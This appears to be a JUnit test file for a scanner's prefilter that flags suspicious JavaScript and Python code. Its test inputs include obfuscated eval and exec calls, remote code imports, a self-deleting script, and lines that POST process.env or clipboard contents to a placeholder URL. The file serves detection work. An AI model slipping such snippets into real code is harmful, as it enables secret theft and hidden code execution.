package dev.countersign.lure.code;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class PrefilterTest {
  /** What is judged by itself. The others matter only together with one of these. */
  private static final Set<String> ACTING =
      Set.of("EVALUATE", "RUN", "UNPICKLE", "BROWSERKEY", "KEYCHAIN", "REGISTRY");

  @Test
  void readsAFileWithAnyKnownFunctionThatActs() {
    assertThat(Role.Resource.lines("calls.txt"))
        .filteredOn(line -> ACTING.contains(line.substring(0, line.indexOf(' '))))
        .isNotEmpty()
        .allSatisfy(line -> {
          for (String name : line.substring(line.indexOf(' ') + 1).split(" ", -1)) {
            int dot = name.lastIndexOf('.');
            String called = name.startsWith("http") ? name : name.replace("()", "");
            String module = dot < 0 ? called : called.substring(0, called.lastIndexOf('.'));
            String function = called.substring(called.lastIndexOf('.') + 1);
            String javaScript =
                "const m = require('" + module + "'); m." + function + "(x); new " + called + "(x)";
            String python =
                "import "
                    + module
                    + " as m\nm."
                    + function
                    + "(x, allow_pickle=True)\n"
                    + called
                    + "(x)";
            assertThat(worth(javaScript, Language.JAVASCRIPT) || worth(python, Language.PYTHON))
                .as(name)
                .isTrue();
          }
        });
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "const F = Function; F(body)()",
        "(() => {}).constructor(body)()",
        "[]['filter']['constructor'](body)()",
        "this['ev' + 'al'](body)",
        "this['\\x65v\\x61l'](body)",
        "globalThis[name](body)",
        "import('data:text/javascript,' + body)",
        "import(await (await fetch(u)).text())",
        "const r = require; fetch(u).then(t => r(t))",
        "fetch(u, { method: 'POST', body: JSON.stringify(process.env) })",
        "const { env } = process; fetch(u, { body: JSON.stringify(env) })",
        "const p = process; axios.post(u, p.env)",
        "fetch(u + os.hostname() + os.userInfo().username)",
        "fs.unlinkSync(__filename)",
        "axios.post(u, await navigator.clipboard.readText())"
      })
  void readsJavaScriptThatHidesWhatItNames(String code) {
    assertThat(worth(code, Language.JAVASCRIPT)).isTrue();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "import builtins\ngetattr(builtins, 'ex' + 'ec')(body)",
        "import os as o\ngetattr(o, 'sys' + 'tem')(body)",
        "import sys\ng = getattr\ng(sys.modules['o' + 's'], n)(body)",
        "import os\ndef f(m):\n    getattr(m, n)(body)\nf(os)",
        "import sys\nglobals()['ex' + 'ec'](body)",
        "from os import path, system as s\ns(body)",
        "from os import (\n    system,\n)\nsystem(body)",
        "import os\nos.remove(__file__)"
      })
  void readsPythonThatHidesWhatItNames(String code) {
    assertThat(worth(code, Language.PYTHON)).isTrue();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "const axios = require('axios');\nexport const get = () => axios.get('/api/v1/items');",
        "if (process.env.NODE_ENV !== 'production') { fetch('/log'); }",
        "class A { name() { return this.constructor.name; } }",
        "const m = await import('./page.js');"
      })
  void sparesJavaScriptThatOnlyAsks(String code) {
    assertThat(worth(code, Language.JAVASCRIPT)).isFalse();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "import re\nre.compile('[a-z]')\n# an empty system of the executor",
        "import os, requests\nvalue = getattr(self, name)\nrequests.get(os.path.join(a, b))"
      })
  void sparesPythonThatOnlyAsks(String code) {
    assertThat(worth(code, Language.PYTHON)).isFalse();
  }

  private static boolean worth(String code, Language language) {
    return Prefilter.worthReading(code.getBytes(StandardCharsets.UTF_8), language);
  }
}
